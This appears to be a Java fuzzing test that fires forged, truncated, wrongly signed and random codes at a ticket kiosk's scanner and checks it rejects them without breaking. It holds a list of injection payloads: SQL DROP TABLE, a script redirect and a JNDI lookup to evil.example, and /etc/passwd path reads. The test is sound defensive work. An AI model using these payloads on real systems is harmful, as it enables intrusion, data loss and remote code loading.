package cn.yimen.system.attack;

import cn.yimen.hall.domain.TicketNumber;
import cn.yimen.uplink.checkin.BookingSigner;
import cn.yimen.uplink.checkin.SignedBooking;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPairGenerator;
import java.time.LocalTime;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;

/// Codes that somebody made up, one after the other before a kiosk's scanner: noise, codes of
/// another hall, of another key, of yesterday, cut, put together, and texts for other ears.
final class ForgedCodes {

    private static final int KINDS = 10;
    private static final int LONGEST = 3_000;
    private static final List<String> FOR_OTHER_EARS =
            List.of(
                    "' OR '1'='1'; DROP TABLE tickets;--",
                    "<script>location='http://evil.example'</script>",
                    "\u001b@\u001bp\u0000\u0019\u00fa\u001dV\u0000",
                    "\u202e\u2066A001\u2069",
                    "HTTPS://YL.EXAMPLE/T/../../etc/passwd",
                    "file:///etc/passwd",
                    "${jndi:ldap://evil.example/a}",
                    "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<",
                    "YMSTAFF1.QQ.QQ",
                    "1.2.156.3005.2.111111111111111111111.1.1.001.X");

    private final Random dice;
    private final ScanDesk desk;
    private final BookingSigner own;
    private final BookingSigner another;

    /// @param own the province's own signer, whose public half the desk has
    ForgedCodes(ScanDesk desk, BookingSigner own, long seed) throws GeneralSecurityException {
        this.desk = desk;
        this.own = own;
        another = new BookingSigner(KeyPairGenerator.getInstance("Ed25519").generateKeyPair());
        dice = new Random(seed);
    }

    Attempt attempt(int count) {
        int taken = 0;
        int broke = 0;
        var last = "";
        for (int i = 0; i < count; i++) {
            var code = code(i % KINDS);
            try {
                taken += desk.takes(code) ? 1 : 0;
            } catch (RuntimeException | StackOverflowError e) {
                broke++;
                last = e.getClass().getSimpleName() + " by one of kind " + i % KINDS;
            }
        }
        boolean isControl =
                desk.slips().stream().allMatch(desk::takes)
                        && desk.takes(own.code(booking(ScanDesk.HALL, 0)));
        return Attempt.of(
                "codes that somebody made up, before the scanner",
                "none is taken, none breaks anything, true ones are",
                taken == 0 && broke == 0 && isControl,
                "%,d codes, %d taken, %d broke it %s, true ones taken: %s"
                        .formatted(count, taken, broke, last, isControl));
    }

    private String code(int kind) {
        return switch (kind) {
            case 0 -> noise(StandardCharsets.UTF_8);
            case 1 -> noise(StandardCharsets.ISO_8859_1);
            case 2 -> oneOf(FOR_OTHER_EARS) + letters(dice.nextInt(LONGEST));
            case 3 -> oneOf(desk.slips()).replaceFirst("[^.]{20}$", letters(20));
            case 4 -> anotherSecrets();
            case 5 -> shortened(oneOf(desk.slips()));
            case 6 -> another.code(booking(ScanDesk.HALL, 0));
            case 7 -> own.code(booking("530199000009", 0));
            case 8 -> own.code(booking(ScanDesk.HALL, 1 + dice.nextInt(300)));
            default -> shortened(own.code(booking(ScanDesk.HALL, 0)));
        };
    }

    private String noise(Charset as) {
        var bytes = new byte[1 + dice.nextInt(LONGEST)];
        dice.nextBytes(bytes);
        return new String(bytes, as);
    }

    private String letters(int count) {
        var text = new StringBuilder();
        IntStream.range(0, count).forEach(_ -> text.append((char) ('A' + dice.nextInt(26))));
        return text.toString();
    }

    private <T> T oneOf(List<T> all) {
        return all.get(dice.nextInt(all.size()));
    }

    private String anotherSecrets() {
        var number = new TicketNumber("A", 1 + dice.nextInt(20), 3);
        return ScanDesk.tokens(2)
                .token(ScanDesk.TODAY, number, ScanDesk.ticket(1 + dice.nextInt(20)));
    }

    /// Without its end, or with more after it.
    private String shortened(String code) {
        return dice.nextBoolean()
                ? code.substring(0, dice.nextInt(code.length()))
                : code + letters(1 + dice.nextInt(9));
    }

    private SignedBooking booking(String hall, int daysAgo) {
        return new SignedBooking(
                hall,
                "BK" + (100_000_000 + dice.nextInt(900_000_000)),
                "A",
                ScanDesk.TODAY.minusDays(daysAgo),
                LocalTime.of(9, 0),
                LocalTime.of(9, 30));
    }
}
